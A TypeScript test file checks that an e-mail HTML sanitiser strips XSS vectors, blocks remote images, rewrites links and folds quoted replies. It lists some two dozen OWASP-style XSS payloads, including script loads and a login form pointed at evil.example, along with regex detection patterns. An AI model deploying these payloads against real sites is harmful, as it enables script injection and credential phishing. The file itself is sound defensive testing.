import { describe, expect, it } from 'vitest';
import { QUOTE_CLASS, sanitizeEmailHtml } from './sanitize.ts';

// XSS vectors after the OWASP filter evasion cheat sheet: nothing executable may survive.
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=p><button>Log in</button></form>',
  '<body onload=alert(1)>hi</body>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
  '<p style="color: expression(alert(1))">x</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div id="root" class="mantine-Button">clobber</div>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="x" alt="x" onmouseover="alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

describe('e-mail HTML sanitising', () => {
  it.each(VECTORS)('leaves nothing executable or layout-breaking in %s', (vector) => {
    const out = sanitizeEmailHtml(`<p>before</p>${vector}<p>after</p>`);
    expect(out).not.toMatch(
      /<script|<iframe|<object|<embed|<form|<input|<svg|<math|<style|<meta|<base|<link|<body/i,
    );
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/javascript:|vbscript:|data:text|expression\(|url\(/i);
    expect(out).not.toMatch(/position|\bid=|class="(?!parley-quote)/i);
    expect(out).toContain('after');
  });

  it('keeps ordinary formatting, tables and safe styles', () => {
    const out = sanitizeEmailHtml(
      '<p style="color:#c00;font-weight:bold;margin:40px">Hi <b>Ana</b></p><table><tr><td colspan="2">1</td></tr></table><ul><li>a</li></ul>',
    );
    expect(out).toBe(
      '<p style="color:#c00;font-weight:bold">Hi <b>Ana</b></p><table><tr><td colspan="2">1</td></tr></table><ul><li>a</li></ul>',
    );
  });

  it('opens links in a new tab without referrer and keeps mailto links', () => {
    expect(sanitizeEmailHtml('<a href="https://example.com/x" target="_top">site</a>')).toBe(
      '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer nofollow">site</a>',
    );
    expect(sanitizeEmailHtml('<a href="mailto:ana@example.com">mail</a>')).toContain(
      'href="mailto:ana@example.com"',
    );
  });

  it('never loads remote images: they become links the agent may open', () => {
    const out = sanitizeEmailHtml('<p>x</p><img src="https://tracker.example/pixel.gif?u=1" alt="logo">');
    expect(out).not.toMatch(/<img/);
    expect(out).toContain(
      '<a href="https://tracker.example/pixel.gif?u=1" target="_blank" rel="noopener noreferrer nofollow">[image: logo]</a>',
    );
    expect(sanitizeEmailHtml('<p>x</p><img src="//tracker.example/p.gif">')).toBe('<p>x</p><span></span>');
  });

  it('points cid: images at their stored attachment and keeps small data: images', () => {
    const inlineImages = new Map([['logo@mail', '/api/attachments/1/content']]);
    expect(sanitizeEmailHtml('<img src="cid:logo@mail" alt="Logo">', { inlineImages })).toBe(
      '<img alt="Logo" src="/api/attachments/1/content" />',
    );
    expect(sanitizeEmailHtml('<img src="cid:unknown@mail" alt="Chart">')).toBe('<span>[image: Chart]</span>');
    expect(sanitizeEmailHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe(
      '<img src="data:image/png;base64,iVBORw0KGgo=" />',
    );
    expect(sanitizeEmailHtml('<p>x</p><img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe(
      '<p>x</p><span></span>',
    );
  });

  it('folds quoted reply history into a closed, labelled <details>', () => {
    const out = sanitizeEmailHtml(
      '<div>Thanks!</div><div class="gmail_quote"><div class="gmail_attr">On Tue, Support wrote:</div><blockquote class="gmail_quote">Restart it.</blockquote></div>',
    );
    expect(out).toBe(
      `<div>Thanks!</div><div><div>On Tue, Support wrote:</div><details class="${QUOTE_CLASS}"><summary>Quoted text</summary>Restart it.</details></div>`,
    );
    expect(sanitizeEmailHtml('<p>Ok</p><blockquote type="cite">old</blockquote>')).toContain(
      `<details class="${QUOTE_CLASS}"><summary>Quoted text</summary>old</details>`,
    );
    expect(sanitizeEmailHtml('<blockquote>a customer quoting a poem</blockquote>')).toBe(
      '<blockquote>a customer quoting a poem</blockquote>',
    );
  });

  it('gives nothing for HTML without visible content', () => {
    expect(
      sanitizeEmailHtml(
        '<html><head><title>t</title><style>p{}</style></head><body><p>&nbsp;</p></body></html>',
      ),
    ).toBe('');
  });
});
